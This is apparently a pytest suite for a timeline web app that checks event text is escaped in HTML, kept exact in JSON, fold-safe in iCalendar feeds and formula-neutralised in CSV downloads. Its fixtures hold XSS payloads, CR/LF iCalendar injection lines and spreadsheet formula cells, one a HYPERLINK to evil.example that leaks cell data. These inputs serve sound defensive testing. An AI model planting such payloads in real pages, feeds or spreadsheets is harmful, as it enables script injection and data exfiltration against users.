"""Event text holding markup, quotes, ampersands and CR/LF is data everywhere it is shown:
escaped in the pages, exact in the JSON, and in iCalendar escaped so that it adds no
property (a CR/LF + "ATTENDEE:…" in a title must stay inside SUMMARY).
"""
from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timezone

import icalendar
import pytest

from testkit.events import document, event
from tests.support import seed_database
from timeline.store.ingest import store_document

SCRIPT = "<script>alert(1)</script>"
TITLE = f'{SCRIPT} "引号" \'单引号\' & 符号\r\nBEGIN:VEVENT\r\nATTENDEE:mailto:evil@example.org'
BODY = (f"2020-03-01，{TITLE}。正文</p><img src=x onerror=alert(2)>\n"
        "DTSTART:19700101\r\nEND:VEVENT\r\nX-INJECTED:yes; a,b \\ c")
CATEGORY = 'R&D "研发" <b>'
TAG = "<i>标签</i>"
# What the store keeps (timeline.events.validate): a title is one line (a line break becomes
# a space), and no text keeps a CR (a control character).
STORED_TITLE = TITLE.replace("\r\n", " ")
STORED_TEXT = TITLE.replace("\r", "")
STORED_BODY = BODY.replace("\r", "")


@pytest.fixture(scope="module")
def danger_client(tmp_path_factory):
    from web import create_app

    dangerous = replace(event("danger-1", TITLE, "2020-03-01", category=CATEGORY, tags=(TAG,)),
                        body=BODY, summary=TITLE)

    def load(sessionmaker):
        with sessionmaker.begin() as session:
            store_document(session, document(dangerous, name="danger-2020"), path="danger.txt", sha256="d" * 64,
                           now=datetime(2021, 1, 1, tzinfo=timezone.utc))

    url = seed_database(f"sqlite:///{tmp_path_factory.mktemp('danger') / 'timeline.sqlite'}", load)
    app = create_app({"TESTING": True, "DATABASE_URL": url})
    yield app.test_client()
    app.extensions["timeline.engine"].dispose()


@pytest.mark.parametrize("path", ["/2020", "/events/danger-1", "/2020?tag=" + TAG, "/2020?q=<script>"])
def test_pages_escape_event_text(danger_client, path):
    response = danger_client.get(path)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    for raw in (SCRIPT, "<img src=x", "<b>", "<i>标签"):
        assert raw not in html, raw
    # A search's matches are wrapped in <mark class="hit">: the text inside stays escaped.
    unmarked = html.replace('<mark class="hit">', "").replace("</mark>", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in unmarked


def test_json_carries_the_exact_text(danger_client):
    [ev] = danger_client.get("/api/events").get_json()["events"]
    assert (ev["title"], ev["body"], ev["summary"]) == (STORED_TITLE, STORED_BODY, STORED_TEXT)
    assert (ev["category"], ev["tags"]) == (CATEGORY, [TAG])
    [cat] = danger_client.get("/api/categories").get_json()
    assert cat["name"] == CATEGORY and cat["slug"].isascii()


@pytest.mark.parametrize("path", ["/events/danger-1.ics", "/calendar.ics", "/feeds/all.ics", "/feeds/2020.ics",
                                  "/calendar.ics?tag=" + TAG])
def test_calendar_text_adds_no_property(danger_client, path):
    response = danger_client.get(path)
    assert response.status_code == 200
    body = response.get_data()
    # Unfolded (RFC 5545 3.1), every line is a property we wrote: none starts in event text.
    lines = body.replace(b"\r\n ", b"").split(b"\r\n")
    names = [line.split(b":")[0].split(b";")[0] for line in lines if line]
    assert not set(names) & {b"ATTENDEE", b"X-INJECTED"}, names
    assert names.count(b"BEGIN") == 2 and names.count(b"DTSTART") == 1   # VCALENDAR and VEVENT only
    assert lines.count(b"BEGIN:VEVENT") == 1 and lines.count(b"END:VEVENT") == 1

    [vevent] = icalendar.Calendar.from_ical(body).walk("VEVENT")
    assert set(vevent) == {"SUMMARY", "DTSTART", "DTEND", "DTSTAMP", "UID", "SEQUENCE", "CATEGORIES",
                           "DESCRIPTION", "LAST-MODIFIED", "TRANSP", "URL"}
    assert str(vevent["SUMMARY"]) == STORED_TITLE
    assert vevent.decoded("DTSTART").isoformat() == "2020-03-01"
    assert list(vevent["CATEGORIES"].cats) == [CATEGORY, TAG]
    assert str(vevent["DESCRIPTION"]).startswith(STORED_TEXT)   # its line breaks escaped, not lines


@pytest.mark.parametrize("query", ["tag=0%0D0", "q=a%0D%0AX-INJECTED:1", "q=%E2%80%A8x", "tag=a%0Ab,c;d"])
def test_filter_text_in_the_feed_name_is_escaped(danger_client, query):
    """Found by fuzzing: a CR in ?tag= reached NAME unescaped and the feed was a 500."""
    response = danger_client.get("/calendar.ics?" + query)
    assert response.status_code == 200
    cal = icalendar.Calendar.from_ical(response.get_data())
    assert "X-INJECTED" not in cal and str(cal["NAME"]) == str(cal["X-WR-CALNAME"])


# Cells a spreadsheet would run as formulas, in every text column of the CSV download.
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "category": "+研发",
    "tags": ("@SUM(1+1)", "普通"),
    "summary": "\t=1+1",
    "document": "-2+3",
}


@pytest.fixture(scope="module")
def formula_client(tmp_path_factory):
    from web import create_app

    hostile = replace(event("formula-1", FORMULAS["title"], "2020-05-01", category=FORMULAS["category"],
                            tags=FORMULAS["tags"]), summary=FORMULAS["summary"])
    plain = event("plain-1", "青山湖科技城举行签约仪式", "2020-05-02", category="产业发展", tags=("签约",))

    def load(sessionmaker):
        with sessionmaker.begin() as session:
            store_document(session, document(hostile, plain, name=FORMULAS["document"]), path="formula.txt",
                           sha256="f" * 64, now=datetime(2021, 1, 1, tzinfo=timezone.utc))

    url = seed_database(f"sqlite:///{tmp_path_factory.mktemp('formula') / 'timeline.sqlite'}", load)
    app = create_app({"TESTING": True, "DATABASE_URL": url})
    yield app.test_client()
    app.extensions["timeline.engine"].dispose()


def test_csv_download_neutralises_formulas(formula_client):
    import csv
    import io

    response = formula_client.get("/download.csv?year=2020")
    assert response.status_code == 200
    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))}
    stored = {e["key"]: e for e in formula_client.get("/api/events?year=2020").get_json()["events"]}
    hostile, plain = rows["formula-1"], rows["plain-1"]
    assert stored["formula-1"]["title"] == FORMULAS["title"] and stored["formula-1"]["summary"] == "\t=1+1"
    assert hostile["title"] == "'" + FORMULAS["title"]
    assert hostile["category"] == "'+研发"
    assert hostile["tags"] == "'@SUM(1+1)；普通"
    assert hostile["summary"] == "'\t=1+1"
    assert hostile["document"] == "'-2+3"
    # What cannot start a formula is left exactly as stored.
    assert (plain["title"], plain["category"], plain["tags"]) == ("青山湖科技城举行签约仪式", "产业发展", "签约")
    assert (hostile["start"], hostile["url"]) == ("2020-05-01", "/events/formula-1")
    assert plain["document"] == "'-2+3"


def test_a_cell_opening_with_a_carriage_return_is_neutralised_too():
    # The store removes CRs from text (timeline.events.validate), so no stored event carries one.
    from timeline.events.export import csv_cell

    assert csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("2020-05-01") == "2020-05-01" and csv_cell(None) == "" and csv_cell(3) == "3"
